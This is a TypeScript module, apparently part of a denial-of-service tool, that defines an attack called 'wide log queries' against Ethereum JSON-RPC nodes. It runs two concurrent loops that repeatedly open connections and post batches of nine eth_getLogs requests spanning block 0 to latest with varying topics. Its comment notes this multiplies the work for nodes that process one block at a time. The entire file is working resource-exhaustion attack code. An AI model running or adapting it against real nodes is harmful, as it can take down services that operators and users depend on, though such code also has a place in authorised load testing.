// Batches of nine log queries over the widest range: nodes that take one block at once receive ten thousand calls for
// each.
import type { Attack } from "./attack.ts";
import { closed, openAttackSocket, postBytes } from "./sockets.ts";

const AT_ONCE = 2;
const BATCH = 9;
const BLOCKS = 10_000;

export const wideLogs: Attack = {
  name: "wide log queries",
  run: async (target, signal) => {
    let topic = 0;
    const query = (id: number): object => {
      topic += 1;
      const blocks = { fromBlock: "0x0", toBlock: "latest" };
      const recent = { fromBlock: `0x${(id * BLOCKS).toString(16)}`, toBlock: "latest" };
      const topics = [`0x${topic.toString(16).padStart(64, "0")}`];
      const params = [{ ...(id % 2 === 0 ? blocks : recent), topics }];
      return { jsonrpc: "2.0", id, method: "eth_getLogs", params };
    };
    const strike = async (): Promise<void> => {
      while (!signal.aborted) {
        const socket = openAttackSocket(target, signal);
        const batch = JSON.stringify(Array.from({ length: BATCH }, (_, id) => query(id)));
        socket.resume();
        socket.write(postBytes(target, batch, "Connection: close\r\n"));
        await closed(socket);
      }
    };
    await Promise.all(Array.from({ length: AT_ONCE }, strike));
  },
};
